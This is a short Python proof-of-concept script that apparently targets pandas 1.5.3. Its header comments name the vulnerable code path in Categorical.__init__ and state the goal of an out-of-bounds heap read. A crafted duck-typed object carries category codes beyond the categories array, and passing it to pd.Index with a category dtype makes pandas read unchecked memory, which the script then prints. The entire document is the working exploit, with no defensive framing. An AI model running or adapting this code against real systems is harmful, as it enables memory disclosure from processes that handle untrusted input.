# source: pandas 1.5.3 pandas/core/arrays/categorical.py Categorical.__init__ (reached from pd.array/_from_sequence and pd.Index(dtype="category")): extract_array(values)._codes of a values object whose dtype is categorical, returned unchanged by recode_for_categories() when the categories are equal; take_nd reads with them unchecked
# family: duck-typed categorical (variant: pd.Index(book, dtype="category", copy=True))
# goal: out-of-bounds read of the process heap (values past the 200-element categories array)
import numpy as np
import pandas as pd


class Book:
    def __init__(self, n, codes):
        self.levels = pd.CategoricalDtype(list(range(n)))
        self.categories = self.levels.categories
        self.ordered = False
        self._codes = np.array(codes, dtype="int64")

    @property
    def dtype(self):
        return self.levels

    def __iter__(self):
        return iter([])

    def __len__(self):
        return len(self._codes)


book = Book(200, [0, 199, 200, 201, 202, 3000])
arr = pd.Index(book, dtype="category", copy=True)
print("values read:", list(np.asarray(arr)))
